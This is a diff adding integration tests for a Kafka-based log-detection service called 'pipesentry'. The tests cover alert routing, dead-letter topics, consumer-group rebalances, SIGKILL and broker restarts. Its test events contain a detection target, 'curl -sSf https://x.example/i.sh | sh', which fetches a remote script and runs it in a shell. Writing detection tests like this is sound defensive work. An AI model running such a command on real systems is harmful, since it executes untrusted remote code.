@@ -1,0 +1,448 @@
+"""The Kafka runtime against a real broker (``service.devservices``): alerts, dead letters,
+consumer groups, SIGKILL, an unreachable or restarting broker.
+
+Instances run either in-process (``Service`` with a recording wrapper around the
+real alert router) or as ``pipesentry run --config`` subprocesses whose stdout
+sink prints one JSON line per alert; either way every alert is observed.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import signal
+import subprocess
+import sys
+import time
+import uuid
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import httpx
+import orjson
+import pytest
+import yaml
+from aiokafka import AIOKafkaConsumer, AIOKafkaProducer
+
+from service.alerting.router import AlertRouter
+from service.app import Service
+from service.config import Settings
+from service.devservices.process import free_port
+
+pytestmark = pytest.mark.integration
+
+RULE = """
+title: Remote Script Piped Into A Shell
+id: 7a5c0f3e-1111-4000-8000-000000000001
+author: tests
+logsource: {category: ci_job_log}
+detection:
+    sel: {message|contains: '| sh'}
+    condition: sel
+level: high
+"""
+SYSLOG_RULE = """
+title: Root Login Failure
+id: 7a5c0f3e-1111-4000-8000-000000000002
+author: tests
+logsource: {product: linux, service: sshd}
+detection:
+    sel: {app_name: sshd, message|contains: 'Failed password for root'}
+    condition: sel
+level: medium
+"""
+
+
+def rules_dir(tmp_path: Path, *texts: str) -> Path:
+    path = tmp_path / "rules"
+    path.mkdir(exist_ok=True)
+    for index, text in enumerate(texts or (RULE,)):
+        (path / f"rule{index}.yml").write_text(text)
+    return path
+
+
+def hit(n: int) -> bytes:
+    return orjson.dumps({"message": f"step {n}: curl -sSf https://x.example/i.sh | sh", "n": n})
+
+
+def miss(n: int) -> bytes:
+    return orjson.dumps({"message": f"step {n}: npm ci", "n": n})
+
+
+def unique_topic(prefix: str) -> str:
+    return f"{prefix}-{uuid.uuid4().hex[:8]}"
+
+
+async def wait_for(predicate: Callable[[], Any], timeout: float, what: str) -> None:
+    deadline = time.monotonic() + timeout
+    while True:
+        result = predicate()
+        if asyncio.iscoroutine(result):
+            result = await result
+        if result:
+            return
+        if time.monotonic() > deadline:
+            raise AssertionError(f"timed out waiting for {what}")
+        await asyncio.sleep(0.1)
+
+
+async def produce(bootstrap: str, topic: str, values: list[bytes], partition: int | None = None,
+                  keys: list[bytes] | None = None) -> None:
+    producer = AIOKafkaProducer(bootstrap_servers=bootstrap, acks="all")
+    await producer.start()
+    try:
+        futures = [await producer.send(topic, value, key=keys[i] if keys else None, partition=partition)
+                   for i, value in enumerate(values)]
+        await asyncio.gather(*futures)
+    finally:
+        await producer.stop()
+
+
+class RecordingRouter:
+    """The real alert router plus a list of every alert it accepted."""
+
+    def __init__(self, inner: AlertRouter) -> None:
+        self.inner = inner
+        self.alerts: list[Any] = []
+
+    async def start(self) -> None:
+        await self.inner.start()
+
+    async def stop(self) -> None:
+        await self.inner.stop()
+
+    async def submit(self, alerts: Any) -> None:
+        await self.inner.submit(alerts)
+        self.alerts.extend(alerts)
+
+
+def kafka_settings(tmp_path: Path, bootstrap: str, topics: dict[str, Any], **kafka: Any) -> Settings:
+    return Settings(
+        data_dir=tmp_path / "data",
+        kafka={"bootstrap_servers": [bootstrap], "group_id": f"g-{uuid.uuid4().hex[:8]}", "topics": topics,
+               "commit_interval_s": 0.2, "connect_backoff_initial_s": 0.2, "connect_backoff_max_s": 1.0,
+               **kafka},
+        rules={"paths": [str(rules_dir(tmp_path, RULE, SYSLOG_RULE))], "watch": False},
+        alerting={"sinks": [{"type": "store"}]},
+        api={"enabled": False}, stdin={"enabled": False})
+
+
+class InProcess:
+    """A ``Service`` running in this event loop."""
+
+    def __init__(self, settings: Settings) -> None:
+        self.router = RecordingRouter(AlertRouter(settings.alerting, settings.data_dir))
+        self.service = Service(settings, router=self.router)
+        self.task: asyncio.Task[None] | None = None
+
+    async def __aenter__(self) -> InProcess:
+        await self.service.build()
+        self.task = asyncio.create_task(self.service.run(install_signals=False))
+        return self
+
+    async def __aexit__(self, *exc: object) -> None:
+        self.service.request_stop()
+        assert self.task is not None
+        await asyncio.wait_for(self.task, 60)
+
+    def ids_by_token(self) -> dict[str, set[str]]:
+        out: dict[str, set[str]] = {}
+        for alert in self.router.alerts:
+            out.setdefault(alert.origin.token(), set()).add(alert.id)
+        return out
+
+
+async def test_kcat_and_aiokafka_messages_yield_exactly_the_expected_alerts(kafka_server, tmp_path):
+    ci, sshd, dlq = unique_topic("ci"), unique_topic("sshd"), unique_topic("dlq")
+    for topic in (ci, sshd, dlq):
+        kafka_server.create_topic(topic, 1)
+    # kcat, an independent client: JSON lines and a malformed one
+    lines = [hit(0), miss(1), b"{not json", hit(3)]
+    subprocess.run(["kcat", "-P", "-b", kafka_server.bootstrap, "-t", ci, "-H", "origin=kcat"],
+                   input=b"\n".join(lines) + b"\n", check=True, timeout=30)
+    # aiokafka: syslog lines, one of them not syslog at all
+    await produce(kafka_server.bootstrap, sshd, [
+        b"<38>Feb  5 17:32:18 runner-7 sshd[4121]: Failed password for root from 203.0.113.9 port 22",
+        b"<38>1 2026-02-05T17:32:19Z runner-7 sshd 4122 - - Failed password for root from 203.0.113.9",
+        b"<38>Feb  5 17:32:20 runner-7 sshd[4123]: Accepted publickey for deploy",
+        b"\xff\xfe binary garbage"], keys=[b"k0", b"k1", b"k2", b"k3"])
+    settings = kafka_settings(tmp_path, kafka_server.bootstrap, {
+        ci: {"decoder": "json", "logsource": {"category": "ci_job_log"}},
+        sshd: {"decoder": "syslog", "logsource": {"product": "linux", "service": "sshd"}},
+    }, dead_letter_topic=dlq)
+    async with InProcess(settings) as running:
+        await wait_for(lambda: len(running.router.alerts) >= 4, 60, "4 alerts")
+        await asyncio.sleep(1.0)  # nothing more may arrive
+        tokens = sorted((a.rule.title, a.origin.token()) for a in running.router.alerts)
+        assert tokens == sorted([
+            ("Remote Script Piped Into A Shell", f"kafka:{ci}:0:0"),
+            ("Remote Script Piped Into A Shell", f"kafka:{ci}:0:3"),
+            ("Root Login Failure", f"kafka:{sshd}:0:0"),
+            ("Root Login Failure", f"kafka:{sshd}:0:1"),
+        ])
+        runner = running.service.kafka
+        assert runner is not None
+        await wait_for(lambda: runner.tracker.committed.get(_tp(ci)) == 4
+                       and runner.tracker.committed.get(_tp(sshd)) == 4, 30, "offsets committed")
+        stored = running.router.inner.store.get(running.router.alerts[0].id)
+        assert stored is not None and stored["rule"]["author"] == "tests"
+
+    dead = await consume_all(kafka_server.bootstrap, dlq, 2)
+    by_topic = {dict(m.headers)["pipesentry.source_topic"].decode(): m for m in dead}
+    ci_dead = by_topic[ci]
+    headers = dict(ci_dead.headers)
+    assert ci_dead.value == b"{not json"
+    assert headers["origin"] == b"kcat"  # the original headers travel along
+    assert headers["pipesentry.source_partition"] == b"0" and headers["pipesentry.source_offset"] == b"2"
+    assert headers["pipesentry.reason"] == b"decode" and b"invalid JSON" in headers["pipesentry.error"]
+    ssh_dead = by_topic[sshd]
+    assert ssh_dead.value == b"\xff\xfe binary garbage" and ssh_dead.key == b"k3"
+    assert dict(ssh_dead.headers)["pipesentry.source_offset"] == b"3"
+
+
+def _tp(topic: str, partition: int = 0) -> Any:
+    from aiokafka import TopicPartition
+
+    return TopicPartition(topic, partition)
+
+
+async def consume_all(bootstrap: str, topic: str, count: int, timeout: float = 30) -> list[Any]:
+    consumer = AIOKafkaConsumer(topic, bootstrap_servers=bootstrap, auto_offset_reset="earliest",
+                                group_id=None, enable_auto_commit=False)
+    await consumer.start()
+    records: list[Any] = []
+    try:
+        deadline = time.monotonic() + timeout
+        while len(records) < count and time.monotonic() < deadline:
+            for batch in (await consumer.getmany(timeout_ms=500)).values():
+                records.extend(batch)
+    finally:
+        await consumer.stop()
+    assert len(records) == count, f"expected {count} records in {topic}, got {len(records)}"
+    return records
+
+
+# --- subprocess instances -------------------------------------------------------------------
+
+class Instance:
+    """``pipesentry run --config FILE`` as a child process; alerts come from its stdout sink."""
+
+    def __init__(self, tmp_path: Path, name: str, config: dict[str, Any]) -> None:
+        self.dir = tmp_path / name
+        self.dir.mkdir()
+        self.port = free_port()
+        config = {**config, "data_dir": str(self.dir / "data"),
+                  "api": {"port": self.port}, "stdin": {"enabled": False}}
+        self.config_path = self.dir / "pipesentry.yml"
+        self.config_path.write_text(yaml.safe_dump(config))
+        self.stdout = self.dir / "stdout.jsonl"
+        self.stderr = self.dir / "stderr.log"
+        env = {k: v for k, v in os.environ.items() if not k.startswith("PIPESENTRY_")}
+        with self.stdout.open("wb") as out, self.stderr.open("wb") as err:
+            self.proc = subprocess.Popen(
+                [sys.executable, "-m", "service.cli", "run", "--config", str(self.config_path)],
+                stdout=out, stderr=err, stdin=subprocess.DEVNULL, env=env)
+        self.url = f"http://127.0.0.1:{self.port}"
+
+    def alerts(self) -> list[dict[str, Any]]:
+        out = []
+        for line in self.stdout.read_bytes().splitlines():
+            try:
+                doc = orjson.loads(line)
+            except orjson.JSONDecodeError:
+                continue  # a line cut by SIGKILL
+            if isinstance(doc, dict) and "alert_id" in doc:
+                out.append(doc)
+        return out
+
+    async def get(self, path: str) -> httpx.Response | None:
+        try:
+            async with httpx.AsyncClient(timeout=2) as client:
+                return await client.get(self.url + path)
+        except httpx.HTTPError:
+            return None
+
+    async def ready(self) -> bool:
+        response = await self.get("/readyz")
+        return response is not None and response.status_code == 200
+
+    async def metric(self, name: str) -> float:
+        response = await self.get("/metrics")
+        assert response is not None
+        for line in response.text.splitlines():
+            if line.startswith(name + " ") or line.startswith(name + "{"):
+                return float(line.rsplit(" ", 1)[1])
+        return 0.0
+
+    def alive(self) -> bool:
+        return self.proc.poll() is None
+
+    def kill(self) -> None:
+        self.proc.send_signal(signal.SIGKILL)
+        self.proc.wait(10)
+
+    def stop(self) -> None:
+        if self.proc.poll() is None:
+            self.proc.terminate()
+            try:
+                self.proc.wait(30)
+            except subprocess.TimeoutExpired:
+                self.proc.kill()
+                self.proc.wait(10)
+
+    def log(self) -> str:
+        return self.stderr.read_text(errors="replace")[-4000:]
+
+
+def instance_config(bootstrap: str, topic: str, group: str, rules: Path) -> dict[str, Any]:
+    return {
+        "kafka": {"bootstrap_servers": [bootstrap], "group_id": group, "commit_interval_s": 0.2,
+                  "session_timeout_ms": 6000, "heartbeat_interval_ms": 1000, "max_batch": 200,
+                  "connect_backoff_initial_s": 0.2, "connect_backoff_max_s": 1.0,
+                  "topics": {topic: {"decoder": "json", "logsource": {"category": "ci_job_log"}}}},
+        "rules": {"paths": [str(rules)], "watch": False},
+        "alerting": {"sinks": [{"type": "stdout"}, {"type": "store"}]},
+    }
+
+
+def check_alerts(alerts: list[dict[str, Any]], topic: str, expected_offsets: dict[int, range]) -> int:
+    """Every expected event alerted at least once; every duplicate carries the same id. Returns duplicates."""
+    ids: dict[str, set[str]] = {}
+    for alert in alerts:
+        ids.setdefault(alert["source"], set()).add(alert["alert_id"])
+    expected = {f"kafka:{topic}:{p}:{o}" for p, offsets in expected_offsets.items() for o in offsets}
+    missing = expected - set(ids)
+    assert not missing, f"{len(missing)} expected alerts missing, e.g. {sorted(missing)[:5]}"
+    assert set(ids) == expected, f"unexpected alerts: {sorted(set(ids) - expected)[:5]}"
+    assert all(len(v) == 1 for v in ids.values()), "duplicates with different ids"
+    return len(alerts) - len(ids)
+
+
+@pytest.mark.slow
+async def test_two_instances_split_partitions_and_survive_a_sigkill(kafka_server, tmp_path):
+    topic = unique_topic("ci-group")
+    kafka_server.create_topic(topic, 4)
+    config = instance_config(kafka_server.bootstrap, topic, f"grp-{uuid.uuid4().hex[:8]}", rules_dir(tmp_path))
+    first = Instance(tmp_path, "a", config)
+    second = Instance(tmp_path, "b", config)
+    try:
+        await wait_for(lambda: _both_ready(first, second), 90, "both instances ready")
+        await wait_for(lambda: _split(first, second), 60, "partitions split 2 + 2")
+        per_partition = 250
+        # first half, then SIGKILL one instance in the middle of the stream, then the second half
+        for p in range(4):
+            await produce(kafka_server.bootstrap, topic, [hit(p * 10_000 + i) for i in range(per_partition)], p)
+        await wait_for(lambda: len(second.alerts()) > 0, 60, "the second instance alerting")
+        second.kill()
+        for p in range(4):
+            await produce(kafka_server.bootstrap, topic,
+                          [hit(p * 10_000 + i) for i in range(per_partition, 2 * per_partition)], p)
+        expected = {p: range(2 * per_partition) for p in range(4)}
+
+        def complete() -> bool:
+            sources = {a["source"] for a in first.alerts() + second.alerts()}
+            return len(sources) >= 4 * 2 * per_partition
+
+        await wait_for(complete, 120, "every alert after the kill")
+        assert first.alive(), first.log()
+        duplicates = check_alerts(first.alerts() + second.alerts(), topic, expected)
+        assert await first.metric("pipesentry_kafka_partitions_assigned") == 4
+        print(f"duplicates after SIGKILL: {duplicates}")
+    finally:
+        first.stop()
+        second.stop()
+
+
+async def _both_ready(a: Instance, b: Instance) -> bool:
+    return await a.ready() and await b.ready()
+
+
+async def _split(a: Instance, b: Instance) -> bool:
+    counts = (await a.metric("pipesentry_kafka_partitions_assigned"),
+              await b.metric("pipesentry_kafka_partitions_assigned"))
+    return counts == (2.0, 2.0)
+
+
+@pytest.mark.slow
+async def test_rebalance_when_an_instance_joins_mid_stream(kafka_server, tmp_path):
+    topic = unique_topic("ci-join")
+    kafka_server.create_topic(topic, 4)
+    config = instance_config(kafka_server.bootstrap, topic, f"grp-{uuid.uuid4().hex[:8]}", rules_dir(tmp_path))
+    first = Instance(tmp_path, "a", config)
+    second: Instance | None = None
+    sent = [0]
+    joined = asyncio.Event()
+    try:
+        await wait_for(first.ready, 90, "first instance ready")
+        producing = asyncio.create_task(_produce_until(kafka_server.bootstrap, topic, sent, joined))
+        await wait_for(lambda: len(first.alerts()) > 50, 60, "first alerts")
+        second = Instance(tmp_path, "b", config)  # joins: partitions are revoked and reassigned mid-stream
+        await wait_for(second.ready, 90, "second instance ready")
+        joined.set()
+        await producing
+        total = sent[0]
+        await wait_for(lambda: len({a["source"] for a in first.alerts() + second.alerts()}) >= 4 * total, 120,
+                       "every alert across the rebalance")
+        check_alerts(first.alerts() + second.alerts(), topic, {p: range(total) for p in range(4)})
+        assert second.alerts(), "the joining instance got partitions and work"
+    finally:
+        first.stop()
+        if second is not None:
+            second.stop()
+
+
+async def _produce_until(bootstrap: str, topic: str, sent: list[int], joined: asyncio.Event) -> None:
+    """20 events per partition every 0.1 s until the second instance joined, then 10 rounds more."""
+    producer = AIOKafkaProducer(bootstrap_servers=bootstrap, acks="all")
+    await producer.start()
+    extra = 10
+    try:
+        while extra > 0:
+            start = sent[0]
+            futures = [await producer.send(topic, hit(p * 100_000 + i), partition=p)
+                       for p in range(4) for i in range(start, start + 20)]
+            await asyncio.gather(*futures)
+            sent[0] = start + 20
+            if joined.is_set():
+                extra -= 1
+            await asyncio.sleep(0.1)
+    finally:
+        await producer.stop()
+
+
+@pytest.mark.slow
+async def test_unreachable_broker_at_start_then_broker_restart_mid_stream(kafka_factory, tmp_path):
+    broker = kafka_factory()
+    topic = unique_topic("ci-restart")
+    broker.create_topic(topic, 2)
+    broker.stop()
+    instance = Instance(tmp_path, "a", instance_config(broker.bootstrap, topic, "grp-restart", rules_dir(tmp_path)))
+    try:
+        await wait_for(lambda: instance.get("/healthz"), 60, "the API to answer")
+        await wait_for(lambda: _metric_at_least(instance, "pipesentry_kafka_connect_errors_total", 2), 60,
+                       "connection retries")
+        assert not await instance.ready() and instance.alive()
+        readyz = await instance.get("/readyz")
+        assert readyz is not None and readyz.json()["checks"]["kafka_partitions_assigned"] is False
+
+        broker.restart()
+        await wait_for(instance.ready, 90, "ready once the broker is up")
+        await produce(broker.bootstrap, topic, [hit(i) for i in range(100)], 0)
+        await produce(broker.bootstrap, topic, [hit(1000 + i) for i in range(100)], 1)
+        await wait_for(lambda: len(instance.alerts()) >= 200, 60, "first half of the alerts")
+        broker.restart()  # mid-stream: consumer and commits fail for a while, then resume
+        await produce(broker.bootstrap, topic, [hit(i) for i in range(100, 200)], 0)
+        await produce(broker.bootstrap, topic, [hit(1000 + i) for i in range(100, 200)], 1)
+        await wait_for(lambda: len({a["source"] for a in instance.alerts()}) >= 400, 120,
+                       "every alert after the broker restart")
+        check_alerts(instance.alerts(), topic, {0: range(200), 1: range(200)})
+        assert instance.alive(), instance.log()
+    finally:
+        instance.stop()
+        broker.stop()
+
+
+async def _metric_at_least(instance: Instance, name: str, value: float) -> bool:
+    response = await instance.get("/metrics")
+    return response is not None and await instance.metric(name) >= value
